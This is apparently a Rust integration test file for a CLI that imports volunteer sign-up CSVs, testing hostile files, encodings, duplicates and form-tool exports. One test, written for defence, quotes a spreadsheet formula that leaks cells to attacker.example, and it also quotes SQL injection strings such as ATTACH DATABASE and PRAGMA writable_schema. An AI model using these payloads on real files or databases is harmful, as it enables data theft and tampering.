//! `engage recruit import`: every hostile sign-up file, every external corpus, the exports of each
//! form tool, and what a nightly re-import must (not) do. Expectations come from
//! tests/data/csv/hostile/README.md and SPEC §5; where engage decides otherwise, the test says why.

use crate::support::{Network, mode};
use serde_json::Value as Json;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

fn data(path: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/csv").join(path)
}

fn hostile(name: &str) -> PathBuf {
    let dir = data("hostile");
    std::fs::read_dir(&dir)
        .unwrap()
        .filter_map(|e| e.ok())
        .map(|e| e.path())
        .find(|p| p.file_name().unwrap().to_string_lossy().starts_with(name))
        .unwrap_or_else(|| panic!("no hostile file {name}"))
}

fn signups(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/signups").join(name)
}

/// Every row of the tables an import may touch, to show a refused import changed nothing.
fn dump(net: &Network) -> Vec<String> {
    if !net.db.exists() {
        return Vec::new();
    }
    let conn = net.conn();
    let mut out = Vec::new();
    for table in ["partner", "event", "request", "invitation"] {
        let mut stmt = conn.prepare(&format!("SELECT * FROM {table} ORDER BY 1, 2")).unwrap();
        let n = stmt.column_count();
        let rows = stmt
            .query_map([], |r| {
                let mut line = table.to_string();
                for i in 0..n {
                    let v: rusqlite::types::Value = r.get(i)?;
                    line.push_str(&format!("|{v:?}"));
                }
                Ok(line)
            })
            .unwrap();
        out.extend(rows.map(|r| r.unwrap()));
    }
    out
}

struct Imported {
    code: i32,
    stderr: String,
    report: Option<Json>,
}

fn import(net: &Network, file: &Path, extra: &[&str]) -> Imported {
    let mut args = vec!["recruit", "import", file.to_str().unwrap(), "--format", "json"];
    args.extend_from_slice(extra);
    let started = Instant::now();
    let run = net.run(&args);
    assert!(started.elapsed() < Duration::from_secs(20), "{} took {:?}", file.display(), started.elapsed());
    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
    Imported { code: run.code, stderr: run.stderr, report: serde_json::from_str(&run.stdout).ok() }
}

fn counts(report: &Json) -> [i64; 7] {
    ["read", "new", "updated", "unchanged", "duplicates", "rejected", "blank_lines"]
        .map(|k| report[k].as_i64().unwrap())
}

fn rejected(report: &Json) -> Vec<(i64, String)> {
    report["rejected_rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| (r["line"].as_i64().unwrap(), r["column"].as_str().unwrap().to_string()))
        .collect()
}

/// A network that already has someone in it, so "nothing changed" means something.
fn seeded() -> Network {
    let net = Network::new();
    net.ok(&[
        "recruit",
        "add",
        "--first",
        "Existing",
        "--last",
        "Person",
        "--email",
        "existing@example.org",
        "--consent",
    ]);
    net
}

/// The hostile files that are imported, in whole or in part: exit code, counts, rejected lines.
#[test]
fn hostile_files_that_import() {
    // read, new, updated, unchanged, repeated, rejected, blank
    let cases: &[(&str, i32, [i64; 7], &[(i64, &str)])] = &[
        ("h01", 0, [5, 5, 0, 0, 0, 0, 0], &[]),
        ("h02", 0, [5, 5, 0, 0, 0, 0, 0], &[]),
        ("h03", 0, [5, 5, 0, 0, 0, 0, 0], &[]),
        ("h04", 0, [5, 5, 0, 0, 0, 0, 0], &[]),
        ("h09", 0, [0, 0, 0, 0, 0, 0, 0], &[]),
        ("h10", 0, [3, 3, 0, 0, 0, 0, 3], &[]),
        ("h13", 0, [2, 2, 0, 0, 0, 0, 0], &[]),
        ("h14", 0, [2, 2, 0, 0, 0, 0, 0], &[]),
        ("h15", 3, [6, 3, 0, 0, 0, 3, 0], &[(3, ""), (4, ""), (6, "")]),
        ("h17", 3, [4, 2, 0, 0, 0, 2, 0], &[(3, "First name"), (4, "Topics of interest")]),
        ("h18", 0, [5, 5, 0, 0, 0, 0, 0], &[]),
        ("h20", 0, [7, 7, 0, 0, 0, 0, 0], &[]),
        // SPEC §5 rejects a row without a valid e-mail: line 4's address holds SQL, so it is
        // rejected rather than imported as the hostile README suggests.
        ("h21", 3, [5, 4, 0, 0, 0, 1, 0], &[(4, "Email address")]),
        (
            "h22",
            3,
            [5, 1, 0, 0, 0, 4, 0],
            &[(2, "First name"), (3, "First name"), (4, "Last name"), (6, "Email address")],
        ),
        (
            "h24",
            3,
            [15, 5, 0, 0, 2, 8, 0],
            &[
                (8, "Email address"),
                (9, "Email address"),
                (10, "Email address"),
                (11, "Email address"),
                (12, "Email address"),
                (13, "Email address"),
                (14, "Email address"),
                (16, "Email address"),
            ],
        ),
        ("h25", 3, [12, 10, 0, 0, 0, 2, 0], &[(10, "First name"), (13, "First name")]),
        ("h26", 3, [11, 7, 0, 0, 0, 4, 0], &[(3, "Phone"), (8, "Phone"), (9, "Phone"), (11, "Phone")]),
        (
            "h27",
            3,
            [18, 14, 0, 0, 0, 4, 0],
            &[
                (15, "Consent to be contacted"),
                (16, "Consent to be contacted"),
                (17, "Consent to be contacted"),
                (19, "Consent to be contacted"),
            ],
        ),
        ("h28", 0, [2, 2, 0, 0, 0, 0, 0], &[]),
    ];
    for (name, code, expected, lines) in cases {
        let net = seeded();
        let got = import(&net, &hostile(name), &[]);
        assert_eq!(got.code, *code, "{name}: {}", got.stderr);
        let report = got.report.unwrap_or_else(|| panic!("{name}: no report\n{}", got.stderr));
        assert_eq!(counts(&report), *expected, "{name}");
        let want: Vec<(i64, String)> = lines.iter().map(|(l, c)| (*l, c.to_string())).collect();
        assert_eq!(rejected(&report), want, "{name}");
        // The counts add up, and the partners are there.
        let c = counts(&report);
        assert_eq!(c[0], c[1] + c[2] + c[3] + c[4] + c[5], "{name}");
        assert_eq!(net.count("partner"), 1 + c[1], "{name}");
    }
}

/// The hostile files refused whole: exit 1, the sentence names the problem and its lines, and the
/// database is exactly as it was.
#[test]
fn hostile_files_refused_whole() {
    let cases: &[(&str, &str)] = &[
        (
            "h05",
            "is UTF-16 text (Excel's 'Unicode text'): save it from the spreadsheet as 'CSV UTF-8' and import that, or pass --encoding utf-16; nothing was imported",
        ),
        (
            "h06",
            "is not valid UTF-8 (lines 4, 6, 7); if it came from Excel on Windows, import it with --encoding windows-1252; nothing was imported",
        ),
        (
            "h07",
            "is not valid UTF-8 (lines 2, 3, 4); if it came from Excel on Windows, import it with --encoding windows-1252; nothing was imported",
        ),
        ("h08", "is empty: there is no header row; nothing was imported"),
        ("h11", "has the column 'Email address' twice (columns 4 and 9); rename or remove one; nothing was imported"),
        (
            "h12",
            "is missing an e-mail column (such as 'Email address') and a consent column (such as 'Consent to be contacted'). Its columns are: Timestamp, First name, Last name, Phone, Region, Topics of interest. Name a column with --map 'Header=field'; nothing was imported",
        ),
        (
            "h16a",
            "line 3, column Consent to be contacted: a quoted field is never closed, so the rest of the file would be swallowed into it; fix the quote and import again; nothing was imported",
        ),
        (
            "h16b",
            "line 3, column Topics of interest: a quoted field runs on over a line break where it should not, so a quote is missing or extra and the rows after it cannot be trusted; fix the quote and import again; nothing was imported",
        ),
        (
            "h19",
            "holds NUL bytes (lines 3, 4, 5): it is not a text CSV file, or it is UTF-16; save it as 'CSV UTF-8'; nothing was imported",
        ),
    ];
    for (name, sentence) in cases {
        let net = seeded();
        let before = dump(&net);
        let file = hostile(name);
        let got = import(&net, &file, &[]);
        assert_eq!(got.code, 1, "{name}: {}", got.stderr);
        assert_eq!(got.stderr, format!("engage: error: {} {sentence}\n", file.display()), "{name}");
        assert!(got.report.is_none(), "{name}");
        assert_eq!(dump(&net), before, "{name} changed the database");
    }
}

#[test]
fn huge_files_are_refused_or_rejected_quickly_with_bounded_work() {
    use std::io::Read;
    let dir = tempfile::tempdir().unwrap();
    let unpack = |name: &str, len: usize| {
        let mut gz = flate2::read::GzDecoder::new(std::fs::File::open(hostile(name)).unwrap());
        let mut bytes = Vec::new();
        gz.read_to_end(&mut bytes).unwrap();
        assert_eq!(bytes.len(), len, "{name} as documented");
        let path = dir.path().join(format!("{name}.csv"));
        std::fs::write(&path, bytes).unwrap();
        path
    };
    let h29 = unpack("h29", 5_243_318);
    let h30 = unpack("h30", 1_129_170);

    let net = seeded();
    let got = import(&net, &h29, &[]);
    assert_eq!(got.code, 3, "{}", got.stderr);
    let report = got.report.unwrap();
    assert_eq!(counts(&report), [3, 2, 0, 0, 0, 1, 0]);
    assert_eq!(report["rejected_rows"][0]["line"], 3);
    assert_eq!(report["rejected_rows"][0]["reason"], "is longer than 65,536 bytes");

    let before = dump(&net);
    let started = Instant::now();
    let got = import(&net, &h30, &[]);
    assert!(started.elapsed() < Duration::from_secs(2));
    assert_eq!(got.code, 1);
    assert_eq!(
        got.stderr,
        format!(
            "engage: error: {} has 10,000 columns; a sign-up export has at most 1000; nothing was imported\n",
            h30.display()
        )
    );
    assert_eq!(dump(&net), before);
}

/// Physical line numbers stay right whatever the line ends: h15's bad rows, and h18's multi-line
/// answers followed by a bad row, rewritten with CRLF and with lone CRs.
#[test]
fn line_numbers_are_physical_for_lf_crlf_and_cr() {
    let dir = tempfile::tempdir().unwrap();
    let h15 = std::fs::read(hostile("h15")).unwrap();
    let mut h18 = std::fs::read(hostile("h18")).unwrap();
    h18.extend_from_slice(b"2024-03-18 10:00:00,Kai,Lee,not-an-address,250-555-0199,Fraser,Cancer care,Yes\n");
    for (name, bytes, want) in [("h15", &h15, vec![3, 4, 6]), ("h18", &h18, vec![14])] {
        let lf: Vec<u8> = bytes.iter().copied().filter(|b| *b != b'\r').collect();
        for (ending, content) in [
            ("lf", lf.clone()),
            ("crlf", String::from_utf8(lf.clone()).unwrap().replace('\n', "\r\n").into_bytes()),
            ("cr", lf.iter().map(|b| if *b == b'\n' { b'\r' } else { *b }).collect()),
        ] {
            let path = dir.path().join(format!("{name}-{ending}.csv"));
            std::fs::write(&path, &content).unwrap();
            let net = Network::new();
            let got = import(&net, &path, &[]);
            let lines: Vec<i64> = rejected(got.report.as_ref().unwrap()).into_iter().map(|(l, _)| l).collect();
            assert_eq!(lines, want, "{name} with {ending}");
        }
    }
}

#[test]
fn a_dry_run_reports_the_same_and_writes_nothing() {
    let net = seeded();
    let before = dump(&net);
    let dry = import(&net, &hostile("h15"), &["--dry-run"]);
    assert_eq!(dry.code, 3);
    assert_eq!(dump(&net), before);
    // The result's sentence is the report's last line (issue 13).
    assert!(dry.stderr.lines().last().unwrap().starts_with("Dry run, nothing was written: "), "{}", dry.stderr);
    let real = import(&net, &hostile("h15"), &[]);
    let (mut a, mut b) = (dry.report.unwrap(), real.report.unwrap());
    assert_eq!(a["dry_run"], true);
    a["dry_run"] = Json::Bool(false);
    // The ids of new partners are the same too: the dry run ran the very same inserts.
    b["dry_run"] = Json::Bool(false);
    assert_eq!(a, b);
    assert_eq!(net.count("partner"), 4);
}

#[test]
fn rejected_rows_go_to_an_owner_only_file_to_fix_and_import_again() {
    let net = Network::new();
    let out = net.path("fix-these.csv");
    let got = import(&net, &hostile("h15"), &["--rejects", out.to_str().unwrap()]);
    assert_eq!(got.code, 3);
    assert!(got.stderr.contains(&format!("they are in {} with a reason column", out.display())), "{}", got.stderr);
    assert_eq!(mode(&out), 0o600);
    let text = std::fs::read_to_string(&out).unwrap();
    let mut reader = csv::ReaderBuilder::new().flexible(true).from_reader(text.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(header.last().unwrap(), "reason");
    assert_eq!(header.len(), 9);
    let rows: Vec<Vec<String>> = reader.records().map(|r| r.unwrap().iter().map(String::from).collect()).collect();
    assert_eq!(rows.len(), 3);
    // Unchanged but for the reason: the short row, the long row, the row with a stray comma.
    assert_eq!(
        rows[0][..5],
        ["2024-03-15 15:02:11", "Jordan", "Nakamura", "jordan.nakamura@example.com", "604-555-0102"]
    );
    assert_eq!(rows[0].last().unwrap(), "line 3: expected 8 fields, found 5");
    assert_eq!(rows[1].len(), 12);
    assert_eq!(rows[1][8..11], ["unexpected", "extra", "fields"]);
    assert_eq!(rows[2].last().unwrap(), "line 6: expected 8 fields, found 9");

    // The coordinator fixes the rows in a spreadsheet and imports the file again: the reason
    // column is kept in the partners' extra answers, and the three people arrive.
    let fixed = net.path("fixed.csv");
    let mut w = csv::Writer::from_path(&fixed).unwrap();
    w.write_record(&header).unwrap();
    w.write_record([
        "2024-03-15 15:02:11",
        "Jordan",
        "Nakamura",
        "jordan.nakamura@example.com",
        "604-555-0102",
        "Vancouver Coastal",
        "Primary care",
        "Yes",
        "fixed",
    ])
    .unwrap();
    w.write_record([
        "2024-03-16 09:10:00",
        "Sam",
        "Okafor",
        "sam.okafor@example.net",
        "778-555-0103",
        "Fraser",
        "Seniors care, Health equity",
        "Yes",
        "fixed",
    ])
    .unwrap();
    w.write_record([
        "2024-03-17 08:00:05",
        "Morgan",
        "Singh",
        "morgan.singh@example.org",
        "250-555-0105",
        "Northern",
        "Primary care, Rural health",
        "Yes",
        "fixed",
    ])
    .unwrap();
    w.flush().unwrap();
    let again = import(&net, &fixed, &[]);
    assert_eq!(again.code, 0, "{}", again.stderr);
    assert_eq!(counts(again.report.as_ref().unwrap()), [3, 3, 0, 0, 0, 0, 0]);
    assert_eq!(net.count("partner"), 6);
}

#[test]
fn importing_the_same_file_again_changes_nothing_and_says_so() {
    let net = Network::new();
    let file = signups("google-forms.csv");
    let first = import(&net, &file, &[]);
    assert_eq!(counts(first.report.as_ref().unwrap()), [5, 4, 0, 0, 1, 0, 0]);
    let before = dump(&net);
    let again = import(&net, &file, &[]);
    assert_eq!(again.code, 0);
    assert_eq!(counts(again.report.as_ref().unwrap()), [5, 0, 0, 4, 1, 0, 0]);
    assert!(
        again.stderr.contains("Nothing changed: every row is already in the network as it is."),
        "{}",
        again.stderr
    );
    assert_eq!(dump(&net), before, "a re-import wrote something");
}

#[test]
fn a_resubmission_refreshes_values_but_never_erases_one_with_a_blank() {
    let net = Network::new();
    let file = signups("google-forms.csv");
    import(&net, &file, &[]);
    // Line 5 is Ana's second submission: new phone and topics, lived experience left blank.
    let ana = net.json(&["recruit", "show", "1"]);
    assert_eq!(ana["phone"], "604-555-0111");
    assert_eq!(ana["topics"], serde_json::json!(["Mental health and substance use", "Primary care", "Digital health"]));
    assert_eq!(ana["availability"], "Weekday evenings, Weekends");
    assert!(ana["lived_experience"].as_str().unwrap().starts_with("I have used mental health services in Surrey"));
    assert_eq!(ana["joined_on"], "2026-09-14");
    assert_eq!(ana["source"], "google-forms.csv:2");

    // Next month's export has a newer submission from Ana with only a new region; and an older
    // copy of an earlier answer shows up in another file: it only fills blanks.
    let later = net.path("google-forms.csv");
    let mut text = std::fs::read_to_string(&file).unwrap();
    text.push_str("2026/10/20 9:00:00 AM GMT-7,ana.silva@example.org,Ana,Silva,,,,Vancouver Island,,,,,,,,,,,\r\n");
    std::fs::write(&later, text).unwrap();
    let got = import(&net, &later, &[]);
    // Ana's rows after her first are repeats within the file; the last one changes her region.
    assert_eq!(counts(got.report.as_ref().unwrap()), [6, 0, 0, 4, 2, 0, 0]);
    assert!(!got.stderr.contains("Nothing changed"));
    let ana = net.json(&["recruit", "show", "1"]);
    assert_eq!(ana["region"], "Vancouver Island");
    assert_eq!(ana["phone"], "604-555-0111");
    assert_eq!(ana["consent"], true);
}

#[test]
fn skip_leaves_people_already_in_the_network_alone() {
    let net = Network::new();
    net.ok(&[
        "recruit",
        "add",
        "--first",
        "Ana",
        "--last",
        "S",
        "--email",
        "ana.silva@example.org",
        "--region",
        "North",
    ]);
    let got = import(&net, &signups("google-forms.csv"), &["--on-duplicate", "skip"]);
    assert_eq!(counts(got.report.as_ref().unwrap()), [5, 3, 0, 1, 1, 0, 0]);
    assert!(
        got.stderr.contains("1 partners already in the network were left alone (--on-duplicate skip)."),
        "{}",
        got.stderr
    );
    let ana = net.json(&["recruit", "show", "1"]);
    assert_eq!(ana["region"], "North");
    assert_eq!(ana["last_name"], "S");
    assert_eq!(ana["consent"], false);
}

#[test]
fn a_shared_family_address_makes_a_new_partner_and_is_listed_for_review() {
    let net = Network::new();
    let file = net.path("family.csv");
    std::fs::write(
        &file,
        "Timestamp,First name,Last name,Email address,Consent to be contacted\n\
         2026-09-01 10:00:00,Mei,Wong,wong.family@example.org,Yes\n\
         2026-09-02 10:00:00,Jun,Wong,Wong.Family@example.org,Yes\n\
         2026-09-03 10:00:00,Mei,Wong,wong.family@example.org,Yes\n",
    )
    .unwrap();
    let got = import(&net, &file, &[]);
    let report = got.report.unwrap();
    assert_eq!(counts(&report), [3, 2, 0, 0, 1, 0, 0]);
    assert_eq!(
        report["shared_addresses"],
        serde_json::json!([{"line": 3, "partner_id": 2, "email": "wong.family@example.org", "also_partner_id": 1}])
    );
    assert!(got.stderr.contains("1 new partners share an e-mail address with someone else in the network"));
    let emails: Vec<String> = net
        .conn()
        .prepare("SELECT email FROM partner ORDER BY id")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap();
    assert_eq!(emails, ["wong.family@example.org", "wong.family@example.org"]);
}

#[test]
fn the_file_proves_its_date_order_or_is_refused() {
    let net = Network::new();
    let file = net.path("dates.csv");
    let ambiguous =
        "Joined,First name,Email,Consent\n03/04/2026,Ana,a@example.org,yes\n05/06/2026,Bo,b@example.org,yes\n";
    std::fs::write(&file, ambiguous).unwrap();
    let got = import(&net, &file, &[]);
    assert_eq!(got.code, 1);
    assert_eq!(
        got.stderr,
        format!(
            "engage: error: {} has dates such as '03/04/2026' (line 2) that could be day/month or month/day, and no date in it tells which; pass --date-order dmy or --date-order mdy; nothing was imported\n",
            file.display()
        )
    );
    assert!(!net.db.exists() || net.count("partner") == 0);
    let got = import(&net, &file, &["--date-order", "dmy"]);
    assert_eq!(got.code, 0);
    let joined: Vec<String> = net
        .conn()
        .prepare("SELECT joined_on FROM partner ORDER BY id")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap();
    assert_eq!(joined, ["2026-04-03", "2026-06-05"]);

    // A day above 12 anywhere in the file settles it.
    let proven = net.path("proven.csv");
    std::fs::write(
        &proven,
        format!("{ambiguous}11/25/2026,Cy,c@example.org,yes\n").replace("11/25/2026", "10/25/2026"),
    )
    .unwrap();
    let fresh = Network::new();
    let got = import(&fresh, &proven, &[]);
    assert_eq!(got.code, 0, "{}", got.stderr);
    assert_eq!(got.report.unwrap()["date_order"], "mdy");
}

#[test]
fn a_windows_1252_file_reads_with_its_encoding() {
    let net = Network::new();
    let got = import(&net, &hostile("h07"), &["--encoding", "windows-1252"]);
    assert_eq!(got.code, 0, "{}", got.stderr);
    let names: Vec<(String, String)> = net
        .conn()
        .prepare("SELECT first_name, topics FROM partner ORDER BY id")
        .unwrap()
        .query_map([], |r| Ok((r.get(0)?, r.get(1)?)))
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap();
    assert_eq!(names[0], ("René".to_string(), r#"["“Patient safety” – primary care"]"#.to_string()));
    assert_eq!(names[2].0, "Chloé");
}

#[test]
fn names_and_text_are_kept_byte_for_byte() {
    let net = Network::new();
    import(&net, &hostile("h25"), &[]);
    let names: Vec<(String, Option<String>)> = net
        .conn()
        .prepare("SELECT first_name, last_name FROM partner ORDER BY id")
        .unwrap()
        .query_map([], |r| Ok((r.get(0)?, r.get(1)?)))
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap();
    // NFC and NFD José are different people with different addresses; both kept as written.
    assert_eq!(names[0].0, "José");
    assert_eq!(names[1].0, "Jose\u{301}");
    assert_eq!(names[2], ("Aroha".to_string(), None));
    assert_eq!(names[8].0, "ŁUKASZ");
    assert_eq!(names[9], ("Null".to_string(), Some("None".to_string())));
}

/// Injection attempts are data: stored through bound parameters, escaped on the way out.
#[test]
fn formulas_and_sql_are_only_text() {
    let net = Network::new();
    import(&net, &hostile("h20"), &[]);
    let first: String = net.conn().query_row("SELECT first_name FROM partner WHERE id = 1", [], |r| r.get(0)).unwrap();
    assert_eq!(first, "=HYPERLINK(\"http://attacker.example/?leak=\"&D2&E2,\"Click for your gift card\")");
    let export = net.ok(&["recruit", "export", "--with-contact", "--format", "csv"]);
    let mut reader = csv::Reader::from_reader(export.as_bytes());
    let mut cells = 0;
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            cells += 1;
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a bare formula cell: {cell:?}");
        }
    }
    assert!(cells > 50);
    assert!(export.contains("\"'=HYPERLINK("));
    assert!(export.contains("\"'+1 778 555 0103\""));

    let net = Network::new();
    // h21 tries `ATTACH DATABASE '/tmp/x.db'`: whatever is at that path (another program's file,
    // or nothing) must be exactly as it was.
    let attached = || std::fs::metadata("/tmp/x.db").ok().map(|m| (m.len(), m.modified().ok()));
    let before = attached();
    import(&net, &hostile("h21"), &[]);
    assert_eq!(attached(), before);
    let integrity: String = net.conn().query_row("PRAGMA integrity_check", [], |r| r.get(0)).unwrap();
    assert_eq!(integrity, "ok");
    assert_eq!(net.count("partner"), 4);
    // Riley's topic holds the one '%' of the file (the search looks in topics since issue 16):
    // she alone is found, so '%' is a literal, not a wildcard.
    let riley: i64 =
        net.conn().query_row("SELECT id FROM partner WHERE first_name = 'Riley'", [], |r| r.get(0)).unwrap();
    let found = net.json(&["recruit", "list", "--search", "%"]);
    let ids: Vec<i64> = found.as_array().unwrap().iter().map(|p| p["id"].as_i64().unwrap()).collect();
    assert_eq!(ids, [riley], "% is a literal, not a wildcard");
    let found = net.json(&["recruit", "list", "--search", "% LIKE"]);
    let ids: Vec<i64> = found.as_array().unwrap().iter().map(|p| p["id"].as_i64().unwrap()).collect();
    assert_eq!(ids, [riley], "through the index too");
    let last: String =
        net.conn().query_row("SELECT last_name FROM partner WHERE first_name = 'Riley'", [], |r| r.get(0)).unwrap();
    assert_eq!(last, "Gagnon\" ; PRAGMA writable_schema=1; --");
}

/// Terminal escapes never reach the coordinator's terminal: the rejected rows' reasons are
/// escaped in the table.
#[test]
fn control_characters_are_escaped_on_the_way_out() {
    let net = Network::new();
    let run = net.run(&["recruit", "import", hostile("h22").to_str().unwrap()]);
    assert_eq!(run.code, 3);
    assert!(!run.stdout.contains('\x1b') && !run.stdout.contains('\u{202e}'), "{}", run.stdout);
    assert!(run.stdout.contains("\\x1b"), "{}", run.stdout);
}

/// blns, the big list of naughty strings: every one that a person could type in a free-text
/// answer comes back exactly (trimmed of surrounding spaces, as every answer is).
#[test]
fn naughty_strings_round_trip_exactly() {
    let strings: Vec<String> = serde_json::from_str(&std::fs::read_to_string(data("blns/blns.json")).unwrap()).unwrap();
    let net = Network::new();
    let file = net.path("naughty.csv");
    let mut w = csv::Writer::from_path(&file).unwrap();
    w.write_record(["First name", "Email address", "Lived experience", "Consent to be contacted"]).unwrap();
    let kept: Vec<&String> = strings.iter().filter(|s| !s.contains('\0')).collect();
    for (i, s) in kept.iter().enumerate() {
        w.write_record([&format!("Person{i}"), &format!("p{i}@example.org"), s.as_str(), "Yes"]).unwrap();
    }
    w.flush().unwrap();
    let got = import(&net, &file, &[]);
    assert_eq!(got.code, 0, "{}", got.stderr);
    assert_eq!(net.count("partner"), kept.len() as i64);
    let stored: Vec<Option<String>> = net
        .conn()
        .prepare("SELECT lived_experience FROM partner ORDER BY id")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap();
    for (s, got) in kept.iter().zip(&stored) {
        let want = s.trim();
        assert_eq!(got.as_deref().unwrap_or(""), want, "{s:?}");
    }
}

/// The external corpora hold no sign-ups: each is refused whole (exit 1) or, where it happens to
/// have sign-up columns, imported; never a panic or a hang, and a refusal changes nothing.
#[test]
fn every_external_corpus_file_is_handled() {
    let mut files = Vec::new();
    let mut stack = vec![data("")];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                if !path.ends_with("hostile") {
                    stack.push(path);
                }
            } else if !matches!(
                path.extension().and_then(|e| e.to_str()),
                Some("md" | "json" | "jsonld" | "feature") | None
            ) || path.file_name().is_some_and(|n| n.to_string_lossy().contains("LICENSE"))
            {
                files.push(path);
            }
        }
    }
    files.sort();
    assert!(files.len() > 150, "{}", files.len());
    let net = seeded();
    let before = dump(&net);
    let mut refused = 0;
    for file in &files {
        let got = import(&net, file, &[]);
        assert!(matches!(got.code, 1 | 2), "{}: exit {} {}", file.display(), got.code, got.stderr);
        assert!(got.stderr.starts_with("engage: error: "), "{}: {}", file.display(), got.stderr);
        assert_eq!(got.stderr.lines().filter(|l| l.starts_with("engage: error:")).count(), 1);
        refused += 1;
    }
    assert_eq!(refused, files.len());
    assert_eq!(dump(&net), before);
    let xlsx = import(&net, &data("csvkit-examples/dummy.xlsx"), &[]);
    assert!(xlsx.stderr.contains("is an Excel workbook (or another zip file), not a CSV file"), "{}", xlsx.stderr);
    let gz = import(&net, &data("csvkit-examples/dummy.csv.gz"), &[]);
    assert!(gz.stderr.contains("is compressed (gzip): decompress it and import the CSV file inside"), "{}", gz.stderr);
}

#[test]
fn bad_options_are_usage_errors_and_a_missing_file_is_named() {
    let net = Network::new();
    let file = signups("google-forms.csv");
    let run = net.run(&["recruit", "import", file.to_str().unwrap(), "--map", "Email"]);
    assert_eq!(run.code, 2);
    assert!(
        run.stderr.starts_with(
            "engage: error: --map 'Email' needs the form 'Header text=field', where field is one of email, first_name,"
        ),
        "{}",
        run.stderr
    );
    let run = net.run(&["recruit", "import", file.to_str().unwrap(), "--map", "Courriel=email"]);
    assert_eq!(run.code, 2);
    assert!(run.stderr.starts_with(&format!("engage: error: --map names the column 'Courriel', which {} does not have; its columns are Timestamp, Email address,", file.display())), "{}", run.stderr);
    let run = net.run(&["recruit", "import", file.to_str().unwrap(), "--encoding", "klingon"]);
    assert_eq!(run.code, 2);
    assert!(run.stderr.starts_with("engage: error: --encoding 'klingon' is not an encoding engage knows"));
    let run = net.run(&["recruit", "import", "no-such-file.csv"]);
    assert_eq!(run.code, 1);
    assert!(run.stderr.starts_with("engage: error: could not read no-such-file.csv\n  caused by: "), "{}", run.stderr);
    assert!(!net.db.exists(), "no database is created for an import that cannot start");
}

/// Realistic exports of each form tool, partner by partner, field by field.
#[test]
fn google_forms_export() {
    let net = Network::new();
    let got = import(&net, &signups("google-forms.csv"), &[]);
    assert_eq!(got.code, 0);
    assert_eq!(got.report.as_ref().unwrap()["form"], "Google Forms");
    let marco = net.json(&["recruit", "show", "2"]);
    let want = serde_json::json!({
        "first_name": "Marco", "last_name": "Silva", "pronouns": "he/him", "email": "marco.silva@example.org",
        "phone": "604-555-0102", "postal_code": "V3T 2K1", "region": "Lower Mainland", "community": "urban",
        "health_authority": "Fraser Health", "topics": ["Seniors' care", "Health equity, diversity and inclusion"],
        "languages": ["English"], "lived_experience": "I supported my partner through palliative care at home",
        "availability": "Weekends", "accessibility_needs": "Wheelchair access", "preferred_contact": "Phone",
        "consent": true, "consent_on": "2026-09-15", "payment_affects_benefits": true, "joined_on": "2026-09-15",
        // Ana's two-line answer on lines 2 and 3 puts Marco on line 4.
        "source": "google-forms.csv:4", "status": "active",
    });
    for (k, v) in want.as_object().unwrap() {
        assert_eq!(&marco[k], v, "{k}");
    }
    assert_eq!(marco["extra"], serde_json::json!([{"column": "How did you hear about us?", "answer": "Newsletter"}]));
    let kwame = net.json(&["recruit", "show", "4"]);
    assert_eq!(kwame["consent"], false);
    assert_eq!(kwame["payment_affects_benefits"], false);
    let harpreet = net.json(&["recruit", "show", "3"]);
    assert_eq!(harpreet["accessibility_needs"], "Materials in large print; \"plain language\" if possible");
    assert_eq!(harpreet["community"], "rural");
}

#[test]
fn microsoft_forms_export() {
    let net = Network::new();
    let got = import(&net, &signups("microsoft-forms.csv"), &[]);
    assert_eq!(got.code, 0, "{}", got.stderr);
    let report = got.report.unwrap();
    assert_eq!(report["form"], "Microsoft Forms");
    assert_eq!(report["date_order"], "mdy");
    let lucia = net.json(&["recruit", "show", "1"]);
    // "anonymous" in the respondent column is not an address: the question's answer wins.
    assert_eq!(lucia["email"], "lucia.nunez@example.org");
    assert_eq!(lucia["first_name"], "Lucía");
    assert_eq!(lucia["topics"], serde_json::json!(["Primary care", "Digital health"]));
    assert_eq!(lucia["languages"], serde_json::json!(["English", "Spanish"]));
    assert_eq!(lucia["joined_on"], "2026-09-14");
    let siobhan = net.json(&["recruit", "show", "3"]);
    assert_eq!(siobhan["joined_on"], "2026-10-01");
    assert_eq!(siobhan["consent"], false);
    assert_eq!(siobhan["extra"][0], serde_json::json!({"column": "ID", "answer": "3"}));
}

#[test]
fn surveymonkey_export_with_two_header_rows() {
    let net = Network::new();
    let got = import(&net, &signups("surveymonkey.csv"), &[]);
    assert_eq!(got.code, 0, "{}", got.stderr);
    let report = got.report.unwrap();
    assert_eq!(report["form"], "SurveyMonkey");
    assert_eq!(counts(&report), [2, 2, 0, 0, 0, 0, 0]);
    let olga = net.json(&["recruit", "show", "1"]);
    assert_eq!(olga["first_name"], "Olga");
    assert_eq!(olga["email"], "olga.ivanova@example.org");
    assert_eq!(olga["topics"], serde_json::json!(["Cancer care", "Long COVID"]));
    assert_eq!(olga["joined_on"], "2026-09-18");
    assert_eq!(olga["source"], "surveymonkey.csv:3");
    let tama = net.json(&["recruit", "show", "2"]);
    assert_eq!(tama["topics"], serde_json::json!(["Primary care", "Mental health and substance use"]));
    assert_eq!(tama["last_name"], "Joe");
}

#[test]
fn typeform_export_with_a_column_per_choice() {
    let net = Network::new();
    let got = import(
        &net,
        &signups("typeform.csv"),
        &["--map", "Cancer care=topics", "--map", "Primary care=topics", "--map", "Digital health=topics"],
    );
    assert_eq!(got.code, 0, "{}", got.stderr);
    assert_eq!(got.report.as_ref().unwrap()["form"], "Typeform");
    let yuki = net.json(&["recruit", "show", "1"]);
    assert_eq!(yuki["topics"], serde_json::json!(["Primary care", "Digital health"]));
    assert_eq!(yuki["consent"], true);
